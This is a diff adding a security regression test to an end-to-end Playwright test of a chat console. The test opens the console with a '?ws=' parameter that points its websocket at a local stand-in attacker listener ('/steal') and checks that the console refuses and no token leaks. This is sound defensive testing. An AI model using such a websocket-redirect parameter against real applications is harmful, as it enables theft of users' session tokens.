@@ -1,6 +1,8 @@
 // End-to-end test of the browser console (api-gateway /console) against a running `./talk-mesh up`:
 // two agents in two browser contexts of headless Chromium (Debian's chromium, driven by playwright-core).
 // Agent A creates a chat with B and sends; B sees the message live; B reacts; A sees the reaction live.
+// First, the token-theft probe of issue 11: ?ws= naming another host makes the console refuse, visibly, and the
+// listener on that host receives nothing (the token goes to push-service in Sec-WebSocket-Protocol, never a URL).
 // It starts nothing itself. Environment:
 //   TALK_URL (http://127.0.0.1:8080)   the gateway; TALK_WS_PORT (8081) push-service's port on the same host
 //   TALK_ADMIN_USERNAME / TALK_ADMIN_PASSWORD (admin / admin)   creates the two agents
@@ -8,6 +10,7 @@
 import { chromium } from 'playwright-core';
 import { fileURLToPath } from 'node:url';
 import path from 'node:path';
+import net from 'node:net';
 
 const here = path.dirname(fileURLToPath(import.meta.url));
 const URL_BASE = (process.env.TALK_URL || 'http://127.0.0.1:8080').replace(/\/$/, '');
@@ -67,6 +70,27 @@ async function main() {
       pages.push(page);
     }
     const [a, b] = pages;
+
+    step('a console opened with ?ws= on another host refuses to connect there, and the listener receives nothing');
+    const pageHost = new URL(URL_BASE).hostname;
+    const attackerHost = pageHost === '127.0.0.1' ? 'localhost' : '127.0.0.1';
+    const received = [];
+    const listener = net.createServer((socket) => socket.on('data', (d) => received.push(d.toString())));
+    await new Promise((resolve) => listener.listen(0, attackerHost, resolve));
+    try {
+      const probe = pages[0];
+      const attackUrl = `ws://${attackerHost}:${listener.address().port}/steal`;
+      await probe.goto(`${URL_BASE}/console/?ws=${encodeURIComponent(attackUrl)}`);
+      await probe.getByTestId('login-error').filter({ hasText: 'Refusing to connect' }).waitFor();
+      await probe.getByTestId('login-username').fill(alice.username);
+      await probe.getByTestId('login-password').fill(alice.password);
+      await probe.getByTestId('login-submit').click();
+      await probe.locator('[data-testid="ws-status"]').filter({ hasText: 'refused' }).waitFor();
+      if (received.length > 0) throw new Error(`the attacker's listener received: ${received.join('')}`);
+      await probe.getByTestId('logout').click();
+    } finally {
+      listener.close();
+    }
 
     step('A and B log in to the console');
     await Promise.all([logIn(a, alice), logIn(b, bob)]);
